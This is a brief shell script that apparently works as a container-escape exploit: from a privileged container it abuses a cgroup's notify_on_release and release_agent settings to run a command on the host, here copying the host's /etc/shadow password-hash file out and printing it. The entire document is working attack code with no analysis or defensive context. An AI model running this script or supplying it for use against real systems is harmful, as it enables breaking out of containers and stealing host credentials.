#!/bin/sh
# from a privileged container to the host
mkdir -p /tmp/cg && mount -t cgroup -o rdma cgroup /tmp/cg && mkdir -p /tmp/cg/x
echo 1 > /tmp/cg/x/notify_on_release
host=$(sed -n 's/.*\perdir=\([^,]*\).*/\1/p' /etc/mtab)
echo "$host/cmd" > /tmp/cg/release_agent
printf '#!/bin/sh\ncat /etc/shadow > %s/out\n' "$host" > /cmd
chmod a+x /cmd
sh -c 'echo $$ > /tmp/cg/x/cgroup.procs'
cat /out
